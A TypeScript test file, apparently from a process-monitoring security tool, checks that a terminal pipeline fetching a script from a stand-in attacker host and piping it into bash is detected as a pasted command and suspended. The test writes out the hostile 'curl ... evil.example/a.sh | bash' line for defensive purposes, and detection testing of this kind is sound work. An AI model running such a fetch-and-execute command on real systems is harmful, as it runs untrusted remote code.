import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { shippedRules } from '@porchlight/definitions/testing/shipped-catalogue.ts';
import { expect, it, onTestFinished } from 'vitest';
import { linux } from '../os/linux/linux.ts';
import { readChildren, readCommandLine, readStat } from '../os/linux/proc.ts';
import { describeProcess } from '../os/linux/watch.ts';
import { detectCommands } from '../protection/detectors/commands.ts';
import { commandId } from '../protection/protection.ts';
import { idler, run } from '../testing/programs.ts';
import { until } from '../testing/until.ts';

const os = linux({});
const stateOf = (pid: number) => readStat(pid)?.state;

it('[P12.4] a download that a terminal pipes into a shell is recognised from either process, and both are suspended before a line of it runs', async () => {
  let asked = 0;
  const server = createServer((_request, response) => {
    asked++;
    response.flushHeaders();
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  onTestFinished(() => {
    server.closeAllConnections();
    server.close();
  });
  const { port } = server.address() as AddressInfo;
  const terminal = await idler('xterm', '/bin/bash');
  // The monitor mode gives the pipeline a group of its own, as in a terminal.
  const line = `set -m; curl -s --connect-to evil.example:80:127.0.0.1:${port} http://evil.example/a.sh | bash; sleep 60`;
  const shell = run(terminal, ['-c', `bash -c '${line}; true'; true`]);
  const pipeline = await until('both processes', () => {
    const inner = (readChildren(shell.pid) ?? []).flatMap((pid) => readChildren(pid) ?? []).flatMap((pid) => readStat(pid) ?? []);
    // Before its exec a child is still its parent.
    const lines = inner.map(({ pid }) => readCommandLine(pid));
    const haveStarted = lines.some((one) => one.startsWith('curl ')) && lines.includes('bash');
    return inner.length === 2 && haveStarted && asked > 0 ? inner.map(describeProcess) : null;
  });
  const ids = new Set<string | undefined>();
  for (const process of pipeline) {
    const command = os.commandOf(process);
    if (!command) throw new Error('its command is not readable');
    const [finding, ...more] = detectCommands([{ process, command, fetched_from: null, id: commandId(command) }], shippedRules().commands);
    expect(more).toEqual([]);
    expect(finding).toMatchObject({ details: 'evil.example', match: { category: 'PastedCommand' } });
    ids.add(finding?.match.identifier);
    expect(finding?.roots.map(({ pid }) => pid).toSorted()).toEqual(pipeline.map(({ pid }) => pid).toSorted());
  }
  expect(ids.size).toBe(1);
  const [first] = pipeline;
  const command = first && os.commandOf(first);
  const [finding] =
    first && command ? detectCommands([{ process: first, command, fetched_from: null, id: '' }], shippedRules().commands) : [];
  const suspended = (await os.suspend(finding?.roots ?? [])) ?? [];
  expect(os.areSuspended(suspended)).toBe(true);
  await until('both to stand still', () => suspended.length === 2 && suspended.every(({ pid }) => stateOf(pid) === 'T'));
});
